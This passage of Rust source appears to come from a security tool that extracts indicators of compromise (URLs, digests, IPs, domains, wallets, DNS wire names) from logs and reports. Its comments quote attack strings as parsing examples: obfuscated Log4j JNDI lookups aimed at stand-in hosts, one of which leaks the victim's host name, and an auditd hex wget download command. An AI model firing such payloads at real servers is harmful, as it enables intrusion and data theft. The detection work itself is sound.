        // UTF-16LE (PowerShell's `-enc`): every other byte zero.
        let utf16 = bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).all(|&b| b == 0);
        // No `://` (in either form), no link: most blobs stop here.
        let sep: &[u8] = if utf16 { b":\0/\0/\0" } else { b"://" };
        memchr::memmem::find(&bytes, sep)?;
        let decoded = if utf16 {
            let units: Vec<u16> = bytes
                .chunks_exact(2)
                .map(|c| {
                    u16::from_le_bytes([
                        c.first().copied().unwrap_or(0),
                        c.get(1).copied().unwrap_or(0),
                    ])
                })
                .collect();
            String::from_utf16(&units).ok()?
        } else {
            String::from_utf8(bytes).ok()?
        };
        let lower = decoded.to_ascii_lowercase();
        if !(lower.contains("http://") || lower.contains("https://") || lower.contains("ftp://")) {
            return None;
        }
        let url = self
            .extract(&decoded)
            .into_iter()
            .find_map(|m| if let Indicator::Url(u) = m.indicator { Some(u) } else { None })?;
        // The span takes the padding a separator left out of the piece.
        let pad = ctx
            .text
            .as_bytes()
            .get(ctx.end..)
            .map_or(0, |t| t.iter().take(2).take_while(|&&b| b == b'=').count());
        let pad = if rb.ends_with(b"=") { 0 } else { pad };
        self.make(ctx, 0, rb.len() + pad, Indicator::Url(url), true)
    }

    /// `a2=77676574202D714F2D20687474703A2F2F…`, `proctitle=2F62696E…`: a
    /// command line auditd wrote in hex (it does so for an argument with a
    /// space or a quote; arguments are apart by NUL bytes), holding a link
    /// (only after auditd's keys: [`auditd_hex_key`]). The span is the hex
    /// after the key; `defanged` is true: the text does not show the link
    /// as it is.
    fn hex_url(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        let start = memchr::memchr(b'=', rb).map_or(0, |p| p + 1);
        let hex = rb.get(start..)?;
        // `://` is `3A2F2F` in hex, in either case: without it, no link.
        if hex.len() < MIN_HEX_URL
            || hex.len() % 2 == 1
            || !hex.iter().all(u8::is_ascii_hexdigit)
            || find_ci(hex, b"3a2f2f").is_none()
        {
            return None;
        }
        let nibble = |c: u8| (c as char).to_digit(16).and_then(|d| u8::try_from(d).ok());
        let bytes: Vec<u8> = hex
            .chunks_exact(2)
            .map(|p| Some(nibble(*p.first()?)? << 4 | nibble(*p.get(1)?)?))
            .collect::<Option<_>>()?;
        let decoded = String::from_utf8(bytes).ok()?.replace('\0', " ");
        let url = self
            .extract(&decoded)
            .into_iter()
            .find_map(|m| if let Indicator::Url(u) = m.indicator { Some(u) } else { None })?;
        self.make(ctx, start, rb.len(), Indicator::Url(url), true)
    }

    fn unix_path(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let raw = ctx.raw;
        let body = raw.strip_prefix("~/").or_else(|| raw.strip_prefix('/'))?;
        // At least two components, letters in them, and no URL-ish or
        // fraction-like shapes.
        if find_byte_from(body.as_bytes(), 0, b'/').is_none()
            || find_seq(body.as_bytes(), b"//").is_some()
            || !body.bytes().any(|b| b.is_ascii_alphabetic())
        {
            return None;
        }
        let path: FilePath = raw.parse().ok()?;
        self.make(ctx, 0, raw.len(), Indicator::FilePath(path), false)
    }

    fn ids(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        if let Some(p) = (ctx.flags & F_DASH != 0).then(|| find_cve(rb)).flatten() {
            let mut e = p + 4;
            while rb.get(e).is_some_and(|b| b.is_ascii_digit() || *b == b'-') {
                e += 1;
            }
            let cve: Cve = ctx.raw.get(p..e)?.parse().ok()?;
            return self.make(ctx, p, e, Indicator::Cve(cve), false);
        }
        let first = *rb.first()?;
        if first == b'T'
            && rb.len() >= 5
            && rb.get(1..5).is_some_and(|d| d.iter().all(u8::is_ascii_digit))
        {
            let e = if rb.get(5) == Some(&b'.') && rb.len() >= 9 { 9 } else { 5 };
            // `T1020_exfil.txt` is a file name, not a technique.
            if rb.get(e).is_none_or(|b| !(b.is_ascii_alphanumeric() || *b == b'_')) {
                if let Ok(t) = ctx.raw.get(..e)?.parse::<AttackTechnique>() {
                    return self.make(ctx, 0, e, Indicator::AttackTechnique(t), false);
                }
            }
        }
        if first == b'A'
            && rb.get(1) == Some(&b'S')
            && rb.iter().skip(2).all(|b| b.is_ascii_digit() || *b == b'N')
        {
            if let Ok(a) = ctx.raw.parse::<Asn>() {
                return self.make(ctx, 0, rb.len(), Indicator::Asn(a), false);
            }
        }
        if may_be_mac(rb) {
            if let Ok(m) = ctx.raw.parse::<Mac>() {
                return self.make(ctx, 0, rb.len(), Indicator::Mac(m), false);
            }
        }
        // `1A1zP1…`, `bc1q…`, `44AFFq…`: a cryptocurrency address, taken
        // only when its own checksum holds (a digest or an identifier of
        // the same shape fails it). All hex is a digest: an address of 26
        // or more Base58 digits drawn from the hex digits alone does not
        // occur (about one in 10¹⁴), so those skip the check.
        if ctx.flags & F_NOT_HEX != 0 && may_be_wallet(rb) {
            if let Ok(w) = ctx.raw.parse::<Wallet>() {
                return self.make(ctx, 0, rb.len(), Indicator::CryptoWallet(w), false);
            }
        }
        None
    }

    fn hash(&self, ctx: &Ctx<'_>, hex_only: bool) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        // `a72c…cd:48211:Js.Downloader.GootLoader-1`, `4caf…0f:*:Unix.…:73`:
        // a ClamAV hash signature, the digest first, then the file's size
        // (or `*`) and the signature's name.
        if !hex_only {
            let h = rb.iter().take_while(|b| b.is_ascii_hexdigit()).count();
            let rest = rb.get(h + 1..).unwrap_or_default();
            let size = rest.iter().take_while(|b| b.is_ascii_digit() || **b == b'*').count();
            if matches!(h, 32 | 40 | 64)
                && rb.get(h) == Some(&b':')
                && size > 0
                && rest.get(size) == Some(&b':')
            {
                let value = ctx.raw.get(..h)?;
                let vf = value.bytes().fold(0, |f, b| f | flags_of(b));
                return self.make(ctx, 0, h, digest_of(value, vf)?, false);
            }
        }
        // `md5:...`, `sha256=...`: the value after the last `:` or `=`.
        let s = if hex_only {
            0
        } else {
            rb.iter().rposition(|&b| b == b':' || b == b'=').map(|p| p + 1)?
        };
        let value = ctx.raw.get(s..)?;
        let n = value.len();
        // The piece's flags describe a whole-piece value.
        let vf = if s == 0 { ctx.flags } else { value.bytes().fold(0, |f, b| f | flags_of(b)) };
        if !matches!(n, 32 | 40 | 64 | 128) || vf & F_NOT_HEX != 0 {
            return self.ssdeep(ctx);
        }
        // `"device_id": "9b4d…"`, `aid=2c7e…`: hex under a key that names
        // an id is one (a GUID written without dashes: an EDR's customer or
        // sensor, a session, a trace; a build id), not a file's digest; so
        // is hex a label names as a fingerprint of something else (`JA3:`,
        // `pe.imphash() == "…"`, `"rc4_key": "…"`).
        let at = ctx.start + s;
        if id_key_before(ctx.text.as_bytes(), at, n)
            || names_no_file_digest(ctx.text.as_bytes(), at)
            || names_a_url_object(ctx.text.as_bytes(), at + n)
        {
            return None;
        }
        self.make(ctx, s, rb.len(), digest_of(value, vf)?, false)
    }

    fn ssdeep(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let raw = ctx.raw;
        if !raw.as_bytes().first()?.is_ascii_digit() || count_byte(raw.as_bytes(), b':') < 2 {
            return None;
        }
        // Hash parts of digits only (`12:30:45`, a time of day) fail the
        // parse: without a letter, `+` or `/` both parts are digits.
        if ctx.flags & (F_ALPHA | F_SLASH) == 0 && find_byte_from(raw.as_bytes(), 0, b'+').is_none()
        {
            return None;
        }
        let s: Ssdeep = raw.parse().ok()?;
        self.make(ctx, 0, raw.len(), Indicator::Ssdeep(s), false)
    }

    fn colon_kinds(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let r = ctx.refanged();
        let text = r.text.as_ref();
        let whole = |i: Indicator| self.make(ctx, 0, ctx.raw.len(), i, r.defanged);
        let colons = count_byte(text.as_bytes(), b':');
        // `sha256 Fingerprint=3C:9E:…:9B`: a certificate's fingerprint in
        // OpenSSL's or a browser's form.
        if matches!(colons, 19 | 31) {
            if let Some(d) = fingerprint(ctx, text) {
                return whole(d);
            }
        }
        if text.bytes().all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.' || b == b'/') {
            if text.contains('/') {
                if let Ok(n) = text.parse::<Ipv6Cidr>() {
                    return whole(Indicator::Ipv6Cidr(n));
                }
                // `2001:db8::7/443`: a number past any prefix length after
                // an address is its port; the address is the indicator.
                if let Some(m) = self.ipv6_slash_port(ctx) {
                    return Some(m);
                }
            } else if colons >= 2
                && text.bytes().filter(u8::is_ascii_hexdigit).count() >= 4
                // Eight groups (seven colons), six and a dotted quad, or
                // `::`: a time of day (`12:30:45`) is none of them.
                && (colons >= 6 || find_seq(text.as_bytes(), b"::").is_some())
                // `Serial Number: 4f:3a:09:91:c2:7e:55:10`: bytes in hex,
                // two digits each (`09` kept), are no address.
                && !byte_pairs(text.as_bytes())
            {
                // `connect ECONNREFUSED ::1:443` (Node's error): the
                // loopback address and a port, not the address `::1:443`.
                if let Some(port) = text.strip_prefix("::1:") {
                    if (2..=5).contains(&port.len()) && port.bytes().all(|b| b.is_ascii_digit()) {
                        let loopback = Ipv6::from(std::net::Ipv6Addr::LOCALHOST);
                        return self.make(ctx, 0, 3, Indicator::Ipv6(loopback), false);
                    }
                }
                if let Ok(a) = text.parse::<Ipv6>() {
                    return whole(Indicator::Ipv6(a));
                }
            }
        }
        if (colons == 1 || text.starts_with('[')) && ends_with_port(text) {
            if let Ok(hp) = text.parse::<HostPort>() {
                if let Host::Domain(d) = hp.host() {
                    if !self.domain_ok(ctx, d, r.defanged) {
                        return None;
                    }
                }
                return whole(Indicator::HostPort(hp));
            }
        }
        // `185.220.101.46:8080/tcp`: a listener with its protocol glued on
        // is the host and port.
        if colons == 1 {
            let raw = ctx.raw.as_bytes();
            let proto = raw
                .len()
                .checked_sub(4)
                .and_then(|at| raw.get(at..))
                .filter(|t| t.eq_ignore_ascii_case(b"/tcp") || t.eq_ignore_ascii_case(b"/udp"));
            if let Some(head) = proto.and_then(|_| ctx.head(raw.len() - 4)) {
                return self.colon_kinds(&head);
            }
            // `BTC:1A1zP1…`, `bitcoin:bc1q…?amount=0.5` (a BIP 21 payment
            // link), `monero:4…`: the address after the label or scheme.
            if let Some(m) = self.labelled_wallet(ctx) {
                return Some(m);
            }
        }
        None
    }

    /// The cryptocurrency address after the one `:` of a piece, up to a
    /// payment link's `?`.
    fn labelled_wallet(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        let from = find_byte_from(rb, 0, b':')? + 1;
        let to = find_byte_from(rb, from, b'?').unwrap_or(rb.len());
        let value = rb.get(from..to)?;
        if !may_be_wallet(value) {
            return None;
        }
        let w: Wallet = ctx.raw.get(from..to)?.parse().ok()?;
        self.make(ctx, from, to, Indicator::CryptoWallet(w), false)
    }

    /// The address of `address/port` (`2a0d:5600:8:6::a1/8443`), where the
    /// number after the slash is too large for a prefix length.
    fn ipv6_slash_port(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let raw = ctx.raw;
        let slash = raw.rfind('/')?;
        let port = raw.get(slash + 1..)?;
        if port.is_empty() || port.len() > 5 || !port.bytes().all(|b| b.is_ascii_digit()) {
            return None;
        }
        if !(129..=65535).contains(&port.parse::<u32>().ok()?) {
            return None;
        }
        let a: Ipv6 = raw.get(..slash)?.parse().ok()?;
        self.make(ctx, 0, slash, Indicator::Ipv6(a), false)
    }

    fn slash_kinds(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let r = ctx.refanged();
        let text = r.text.as_ref();
        // Both start with a number; a failed parse builds an error (a copy
        // of the text), and the protocol is lower-cased into a `String`.
        if !may_be_slash_kind(text.as_bytes()) {
            return None;
        }
        if let Some(n) = Ipv4Cidr::parse_quiet(text) {
            return self.make(ctx, 0, ctx.raw.len(), Indicator::Ipv4Cidr(n), r.defanged);
        }
        if !may_be_port_protocol(text.as_bytes()) {
            return None;
        }
        if let Ok(p) = text.parse::<PortProtocol>() {
            return self.make(ctx, 0, ctx.raw.len(), Indicator::PortProtocol(p), false);
        }
        None
    }

    fn dotted(&self, ctx: &Ctx<'_>) -> Option<Match> {
        // `evil[.]example[.]com/gate/`, `45.77.1[.]2/upd/win.bin`: a host
        // written without a scheme, followed by a path. The host is the
        // indicator (a URL needs its scheme); the path is not kept.
        if ctx.flags & F_SLASH != 0 {
            if let Some(m) = self.host_before_path(ctx) {
                return Some(m);
            }
        }
        if ctx.flags & F_DASH != 0 && ctx.raw.as_bytes().first().is_some_and(u8::is_ascii_digit) {
            if let Some(m) = self.range_start(ctx) {
                return Some(m);
            }
        }
        let r = ctx.refanged();
        let text = r.text.as_ref();
        let tb = text.as_bytes();
        if tb.first().is_some_and(u8::is_ascii_digit)
            && tb.iter().all(|b| b.is_ascii_digit() || *b == b'.')
        {
            let ip = parse_ipv4(text).ok()?;
            // `0.9.12.4`: nothing routes to 0.0.0.0/8 but the unspecified
            // address itself; a quad led by 0 is a version.
            let octets = ip.octets();
            if !r.defanged && octets[0] == 0 && octets != [0; 4] {
                return None;
            }
            if !r.defanged && looks_like_version(ctx, octets) {
                return None;
            }
            return self.make(ctx, 0, ctx.raw.len(), Indicator::Ipv4(ip.into()), r.defanged);
        }
        // A last label that is a file extension but no top-level domain
        // (`lsass.dmp`, `mimikatz.exe`), or one ASCII byte (`e.g`, `i.e`,
        // `Linux/Moose.H`: no suffix in the list is one byte), makes every
        // name parse fail: go straight to file names.
        let last = tb.rsplit(|&b| b == b'.').next().unwrap_or_default();
        if is_non_tld_extension(last) || matches!(last, [b] if b.is_ascii()) {
            return self.file_name(ctx);
        }
        // `RUNDLL32.EXE-6A1F3C2B.pf`: a Prefetch file (a program's name,
        // `-`, eight hex digits of its path's hash), not a name under `.pf`.
        if last.eq_ignore_ascii_case(b"pf") && is_prefetch_name(tb) {
            let name = FileName::parse_quiet(ctx.raw)?;
            return self.make(ctx, 0, ctx.raw.len(), Indicator::FileName(name), false);
        }
        // An ASCII character outside letters, digits, `-`, `_` and `.`
        // makes any name fail to parse: go straight to file names.
        let may_be_domain = r.defanged || ctx.flags & F_NOT_DNS == 0;
        if let Some(d) = may_be_domain.then(|| Domain::parse_quiet(text)).flatten() {
            if self.domain_ok(ctx, &d, r.defanged) {
                return self.make(ctx, 0, ctx.raw.len(), Indicator::Domain(d), r.defanged);
            }
            if has_two_labels(&d)
                && FILE_LIKE_TLDS.contains(&d.public_suffix())
                && !is_punycode_label(ctx.raw)
            {
                return self.file_name(ctx);
            }
            return None;
        }
        self.file_name(ctx)
    }

    /// The digest whose first part is the hex run `text[start..end]` at the
    /// end of its line and whose rest starts the next line, when the
    /// algorithm's name comes right before it on its line (`SHA-256`,
    /// `sha1:`, `MD5 =`) and the two parts make that algorithm's length:
    /// a digest that a PDF's or a mail's line wrap cut. Without the name,
    /// two runs on two lines are two digests of a list.
    #[inline(never)]
    fn wrapped_digest(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let bytes = text.as_bytes();
        let from = line_start_within(bytes, start, 32).unwrap_or(start.saturating_sub(32));
        let before = bytes.get(from..start)?.trim_ascii_end();
        let before =
            before.strip_suffix(b":").or_else(|| before.strip_suffix(b"=")).unwrap_or(before);
        let before = before.trim_ascii_end();
        let before = before.strip_suffix(b"(").unwrap_or(before);
        // Every name below ends in a digit: one test for most lines.
        if !before.last().is_some_and(u8::is_ascii_digit) {
            return None;
        }
        let named = |n: &[u8]| {
            ends_with_ci(before, n)
                && !before
                    .len()
                    .checked_sub(n.len() + 1)
                    .and_then(|k| before.get(k))
                    .is_some_and(u8::is_ascii_alphanumeric)
        };
        let total = [
            (&b"sha-256"[..], 64),
            (b"sha256", 64),
            (b"sha-1", 40),
            (b"sha1", 40),
            (b"sha-512", 128),
            (b"sha512", 128),
            (b"md5", 32),
        ]
        .iter()
        .find(|(n, _)| named(n))?
        .1;
        let first = end - start;
        if first >= total || first < 8 {
            return None;
        }
        let mut cs = end;
        while matches!(bytes.get(cs), Some(b'\r' | b'\n')) && cs - end < 2 {
            cs += 1;
        }
        while matches!(bytes.get(cs), Some(b' ' | b'\t')) {
            cs += 1;
        }
        let rest = total - first;
        let run = bytes.get(cs..)?.iter().take_while(|b| b.is_ascii_hexdigit()).count();
        if run != rest || bytes.get(cs + run).is_some_and(u8::is_ascii_alphanumeric) {
            return None;
        }
        let joined = format!("{}{}", text.get(start..end)?, text.get(cs..cs + run)?);
        let flags = joined.bytes().fold(0u16, |acc, b| acc | flags_of(b));
        let indicator = digest_of(&joined, flags)?;
        if !self.wants(indicator.kind()) {
            return None;
        }
        let disposition = disposition(&indicator);
        Some(Match { indicator, start, end: cs + run, defanged: false, disposition })
    }

    /// The host of a URL whose scheme is none of [`URL_SCHEMES`]
    /// (`rdp://203.0.113.7`, `ssh://evil.example.net:2222`, `vnc://…`): its
    /// domain or IPv4 address, judged as a piece of its own.
    fn host_after_scheme(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        let sep = find_seq(rb, b"://")?;
        let scheme = rb.get(..sep)?;
        if scheme.is_empty() || scheme.len() > 10 || !scheme.iter().all(u8::is_ascii_alphanumeric) {
            return None;
        }
        let from = sep + 3;
        let rest = rb.get(from..)?;
        let len = rest
            .iter()
            .position(|&b| matches!(b, b'/' | b':' | b'?' | b'#' | b'@'))
            .unwrap_or(rest.len());
        let host = rest.get(..len)?;
        if host.is_empty() || !host.iter().any(|&b| b == b'.' || b == b'[') {
            return None;
        }
        let r = refang_text(ctx.raw.get(from..from + len)?);
        let indicator = match parse_ipv4(&r.text) {
            Ok(ip) => Indicator::Ipv4(ip.into()),
            Err(_) => {
                // (Not `dotted`: its rules for names in prose read the `/`
                // before the host as part of an anti-virus name.)
                let d = Domain::parse_quiet(&r.text)?;
                if d.registrable() == d.public_suffix() {
                    return None;
                }
                Indicator::Domain(d)
            }
        };
        self.make(ctx, from, from + len, indicator, r.defanged)
    }

    /// The host a Log4j lookup calls out to, when lookups hide its scheme
    /// (`${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://probe.evil.xyz/a}`)
    /// or its first labels (`${jndi:dns://${env:HOSTNAME}.x1y2.oast.fun}`,
    /// which sends the victim's host name as a label of the attacker's
    /// domain): its domain or IPv4 address, the lookups left out. Out of
    /// line: only pieces with `$` and a URL separator get here.
    #[inline(never)]
    fn lookup_host(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        find_seq(rb, b"${")?;
        let sep = find_seq(rb, b"://")?;
        // The scheme: letters, or the `}` of a lookup that spells it.
        let before = rb.get(sep.checked_sub(1)?)?;
        if !(before.is_ascii_alphabetic() || *before == b'}') {
            return None;
        }
        // Skip the lookups before the host, each followed by a dot.
        let mut from = sep + 3;
        while rb.get(from..).is_some_and(|r| r.starts_with(b"${")) {
            let close = find_byte_from(rb, from, b'}')?;
            from = close + 1;
            if rb.get(from) == Some(&b'.') {
                from += 1;
            }
        }
        let len = rb
            .get(from..)?
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-'))
            .count();
        let host = ctx.raw.get(from..from + len)?.trim_end_matches('.');
        // A lookup inside the host (`evil.${x}.com`) leaves no name to read.
        if host.is_empty() || rb.get(from + len) == Some(&b'$') {
            return None;
        }
        let indicator = match parse_ipv4(host) {
            Ok(ip) => Indicator::Ipv4(ip.into()),
            Err(_) => {
                let d = Domain::parse_quiet(host)?;
                if d.registrable() == d.public_suffix() {
                    return None;
                }
                Indicator::Domain(d)
            }
        };
        self.make(ctx, from, from + host.len(), indicator, false)
    }

    /// The domain written in DNS wire form from the `|` or `(` at `at`:
    /// `|0a|snarlfoxql|03|pro|00|` (a rule's content, each label after its
    /// length in hex between bars) or `(3)cdn(14)office-updater(3)net(0)`
    /// (a Windows DNS server's debug log, the length in decimal in
    /// brackets), up to the root's `|00|`/`(0)` or the last label. Two
    /// labels at least, each as long as its length says. Out of line: rare.
    #[inline(never)]
    fn wire_name(&self, text: &str, at: usize) -> Option<Match> {
        let b = text.as_bytes();
        let mut name = String::new();
        let mut labels = 0;
        let mut i = at;
        let mut end = at;
        loop {
            // `|LL|` or `(N)`: the next label's length, and the length of
            // what says it.
            let len_at = match b.get(i..i + 4) {
                Some([b'|', h, l, b'|']) => {
                    use crate::types::hash::hex_value;
                    hex_value(*h).zip(hex_value(*l)).map(|(h, l)| (h << 4 | l, 4))
                }
                _ => decimal_label_length(b.get(i..).unwrap_or_default()),
            };
            let Some((len, said)) = len_at.map(|(l, s)| (usize::from(l), s)) else { break };
            if len == 0 {
                end = i + said;
                break;
            }
            let label = b.get(i + said..i + said + len)?;
            if len > 63
                || !label.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_'))
            {
                return None;
            }
            if labels > 0 {
                name.push('.');
            }
            name.push_str(std::str::from_utf8(label).ok()?);
            labels += 1;
            i += said + len;
            end = i;
        }
        if labels < 2 {
            return None;
        }
        let d = Domain::parse_quiet(&name)?;
        if d.registrable() == d.public_suffix() {
            return None;
        }
        let raw = text.get(at..end)?;
        let ctx = Ctx {
            text,
            start: at,
            end,
            raw,
            flags: raw.bytes().fold(0u16, |acc, c| acc | flags_of(c)),
            refanged: std::cell::OnceCell::new(),
        };
        self.make(&ctx, 0, raw.len(), Indicator::Domain(d), false)
    }

    /// The first address of an IPv4 range written with a dash
    /// (`45.142.212.10-45.142.212.20`, `10.0.0.1-254`), judged as a piece
    /// of its own; the scan goes on after the dash.
    fn range_start(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        let dash = find_byte_from(rb, 0, b'-')?;
        let (first, last) = (rb.get(..dash)?, rb.get(dash + 1..)?);
        // The last address, or the last part of it: digits and dots (or
        // dot markers) only.
        let digits_and_dots = |b: &[u8]| {
            b.iter().all(|&c| c.is_ascii_digit() || matches!(c, b'.' | b'[' | b']' | b'(' | b')'))
        };
        if !last.first().is_some_and(u8::is_ascii_digit)
            || !digits_and_dots(first)
            || !digits_and_dots(last)
            || find_byte_from(first, 0, b'.').is_none()
        {
            return None;
        }
        self.dotted(&ctx.head(dash)?).filter(|m| m.kind() == IndicatorKind::Ipv4)
    }

    /// The domain or IPv4 address before the first `/` of a dotted piece
    /// (`host.example/path`), judged as a piece of its own.
    fn host_before_path(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        let slash = find_byte_from(rb, 0, b'/')?;
        let host = rb.get(..slash)?;
        // A host needs a dot or a dot marker, and no byte that names
        // never hold (`C:\x/y`, `a=b.c/d`, `(x.y/z`).
        if slash == 0 || !host.iter().any(|&b| b == b'.' || b == b'[' || b == b'(' || b >= 0x80) {
            return None;
        }
        let sub = ctx.head(slash)?;
        if sub.flags & (F_COLON | F_AT | F_BACKSLASH | F_EQ | F_QUOTE) != 0 {
            return None;
        }
        let m = self
            .dotted(&sub)
            .filter(|m| matches!(m.kind(), IndicatorKind::Domain | IndicatorKind::Ipv4))?;
        // `api.telegram.org/bot6712…:AAH…/sendMessage`: a path on a service
        // where anyone publishes (a bot, a paste, a shared file) is the
        // publisher's; without its scheme it is still that link, which
        // these services serve over HTTPS only.
        if let Indicator::Domain(d) = &m.indicator {
            let path = ctx.raw.get(slash..).unwrap_or_default();
            if path.len() > 1 && user_content_host(d.as_str()) && self.wants(IndicatorKind::Url) {
                let r = ctx.refanged();
                let link = format!("https://{}", r.text);
                if let Ok(u) = link.parse::<Url>() {
                    let url = Indicator::Url(u);
                    return self.make_with(ctx, 0, ctx.raw.len(), url, r.defanged, |_| {
                        Disposition::Indicator
                    });
                }
            }
        }
        Some(m)
    }

    fn file_name(&self, ctx: &Ctx<'_>) -> Option<Match> {
        // Code around a name is not part of it: `if(sc.exe`,
        // `SaveToFile('out.txt`, `--out=#{name}.zip`. The name starts after
        // the last quote or `=`, and after a `(` that nothing closes.
        let code = ctx.flags & (F_BRACKET | F_EQ | F_QUOTE) != 0;
        let from = if code { name_start(ctx.raw.as_bytes()) } else { 0 };
        let raw = ctx.raw.get(from..)?;
        let dot = raw.as_bytes().iter().rposition(|&b| b == b'.')?;
        let (stem, ext) = (raw.get(..dot)?, raw.get(dot + 1..)?);
        if !is_file_extension(ext.as_bytes()) {
            return None;
        }
        if stem.is_empty() || stem.len() > 200 || !stem.bytes().any(|b| b.is_ascii_alphanumeric()) {
            return None;
        }
        // `$bitmap.Save(…)`, `$w.Log(…)`: a method called on a variable.
        if stem.starts_with('$') && ctx.text.as_bytes().get(ctx.end) == Some(&b'(') {
            return None;
        }
        // A sample named by its digest (`9f86d0…0a08.exe`, as sandboxes and
        // sample shares name them): the digest is the indicator.
        let stem_flags = stem.bytes().fold(0u16, |acc, b| acc | flags_of(b));
        if let Some(digest) = digest_of(stem, stem_flags) {
            return self.make(ctx, from, from + stem.len(), digest, false);
        }
        let name = FileName::parse_quiet(raw)?;
        self.make(ctx, from, ctx.raw.len(), Indicator::FileName(name), false)
    }

    /// The precision rules for domains that are not defanged.
    fn domain_ok(&self, ctx: &Ctx<'_>, d: &Domain, defanged: bool) -> bool {
        if defanged {
            return true;
        }
        let raw = ctx.raw;
        let two = has_two_labels(d);
        // A file name with a top-level-domain extension: invoice.zip. A
        // Punycode label is a domain's (`xn--patnoci-online-gnc81b.pl`).
        if two
            && FILE_LIKE_TLDS.contains(&d.public_suffix())
            && !is_punycode_label(raw)
            && !network_cue_before(ctx.text.as_bytes(), ctx.start)
        {
            return false;
        }
        // `inferno_v1.6.2_clean.zip`: a host name has no `_` inside a label
        // (only service labels start with one, `_dmarc.example.com`); under
        // a file-like top-level domain that is a file name.
        if FILE_LIKE_TLDS.contains(&d.public_suffix())
            && raw.split('.').any(|l| l.len() > 1 && l.get(1..).is_some_and(|t| t.contains('_')))
        {
            return false;
        }
        // Code members: document.cookie, System.Net, os.path.join(…).
        let labels = || raw.as_bytes().split(|&b| b == b'.');
        let first = raw
            .get(..find_byte_from(raw.as_bytes(), 0, b'.').unwrap_or(raw.len()))
            .unwrap_or_default();
        if two && is_listed_word(&CODE_OBJECT_KEYS, first) {
            return false;
        }
        // Under a brand or generic top-level domain (`.search`, `.host`,
        // `.suzuki`), a script object (`window.location.search`), a rule
        // keyword before `;`, `:` or `=` (`http.host;`) or a one-letter
        // first label (`t.suzuki`, a user name) is not a host name.
        // A systemd unit (`multi-user.target`).
        if two && UNIT_TLDS.contains(&d.public_suffix()) {
            return false;
        }
        if is_new_gtld(d.public_suffix()) {
            let in_list = |list: &[&str], w: &str| list.iter().any(|x| x.eq_ignore_ascii_case(w));
            let after = ctx.text.as_bytes().get(ctx.end).copied();
            // A Wireshark display field (`-e http.host`, `dns.qry.name ==`).
            let before = ctx.text.as_bytes().get(..ctx.start).unwrap_or_default();
            let tail = ctx.text.as_bytes().get(ctx.end..).unwrap_or_default();
            let field_use = before.ends_with(b"-e ")
                || [&b" == "[..], b" != ", b" contains ", b" matches "]
                    .iter()
                    .any(|op| tail.starts_with(op));
            let rule_field = in_list(RULE_KEYWORDS, first)
                && (matches!(after, Some(b';' | b':' | b'=')) || field_use);
            let code_after = tail
                .iter()
                .find(|b| **b != b' ')
                .is_some_and(|b| matches!(b, b'=' | b';' | b')' | b',' | b'+'));
            if in_list(SCRIPT_OBJECTS, first)
                || rule_field
                || (two && first.chars().count() == 1)
                || (two && code_after && in_list(SCRIPT_VARIABLES, first))
            {
                return false;
            }
        }
        // A Java or Android package (`com.qrscan.reader.app`,
        // `io.flashcleaner.pro`, `androidx.work`): its first label is a
        // reversed top-level domain, which no host name starts with.
        const PACKAGE_ROOTS: &[&str] = &[
            "com", "org", "net", "io", "edu", "gov", "android", "androidx", "java", "javax",
            "kotlin",
        ];
        if PACKAGE_ROOTS.contains(&first) {
            return false;
        }
        // A record's field (`user.name`, `host.id`, `p.name` in a hunting
        // query): a one-letter or field word before `.name` or `.id`.
        const FIELD_ROOTS: &[&str] =
            &["user", "host", "process", "event", "agent", "source", "destination", "file", "dns"];
        if matches!(d.public_suffix(), "name" | "id")
            && ((two && first.len() == 1) || FIELD_ROOTS.contains(&first))
        {
            return false;
        }
        // A log schema's field path (`kibana.alert.rule.name`,
        // `ssl.cert.subject.cn`): a schema's root, then words, three or
        // more, ending in a field's word that is also a top-level domain
        // (`.name`, `.id`, `.domain`, `.email`; `.cn` after `subject` or
        // `issuer`, a certificate's common name).
        const SCHEMA_ROOTS: &[&str] = &[
            "kibana",
            "ssl",
            "tls",
            "x509",
            "http",
            "event",
            "host",
            "source",
            "destination",
            "process",
            "file",
            "user",
            "network",
            "url",
            "agent",
            "winlog",
            "observer",
            "rule",
            "threat",
            "client",
            "server",
            "signal",
            "alert",
            "cert",
            "suricata",
            "zeek",
            "ecs",
            "dns",
            "registry",
            "data",
        ];
        if matches!(d.public_suffix(), "name" | "id" | "domain" | "email" | "cn")
            && SCHEMA_ROOTS.contains(&first)
        {
            let all: Vec<&[u8]> = labels().collect();
            let words = all
                .iter()
                .all(|l| !l.is_empty() && l.iter().all(|b| b.is_ascii_lowercase() || *b == b'_'));
            let field_end = match all.as_slice() {
                [.., owner, b"cn"] => matches!(*owner, b"subject" | b"issuer"),
                [.., last] => matches!(*last, b"name" | b"id" | b"domain" | b"email"),
                [] => false,
            };
            if words && all.len() >= 3 && field_end {
                return false;
            }
        }
        if labels().any(is_camel) {
            return false;
        }
        let tld = labels().next_back().unwrap_or_default();
        let upper_tld = tld.iter().any(u8::is_ascii_uppercase);
        let all_upper = raw.bytes().all(|b| !b.is_ascii_lowercase());
        if upper_tld && !all_upper {
            return false;
        }
        if ctx.text.as_bytes().get(ctx.end) == Some(&b'(') {
            return false;
        }
        // Anti-virus names: Trojan.Win32.Agent, HEUR:Backdoor.MSIL.
        if labels().any(|l| is_listed_word(&AV_WORD_KEYS, l)) {
            return false;
        }
        // The word before the piece ends with `/` or `!`: part of an AV
